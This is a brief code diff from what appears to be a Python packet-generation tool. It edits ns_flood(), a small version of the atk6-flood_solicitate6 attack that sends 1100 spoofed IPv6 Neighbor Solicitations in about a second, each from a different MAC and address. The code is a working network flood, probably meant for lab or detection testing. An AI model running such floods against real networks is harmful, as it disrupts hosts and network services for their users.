@@ -435,10 +435,10 @@ def flood(make, frames, step):
 
 
 def ns_flood():
-    """atk6-flood_solicitate6 in small: 3100 solicitations in three seconds, each from another MAC and address."""
+    """atk6-flood_solicitate6 in small: 1100 solicitations in a second, each from another MAC and address."""
     def one(h, _):
         return ether(h, ALL_NODES_MAC) / IPv6(src=h.link_local(), dst=ALL_NODES, hlim=255) / ICMPv6ND_NS(tgt="fe80::200:ff:fe00:0")
-    return flood(one, 3100, 0.0009)
+    return flood(one, 1100, 0.0009)
 
 
 def redirect_flood():
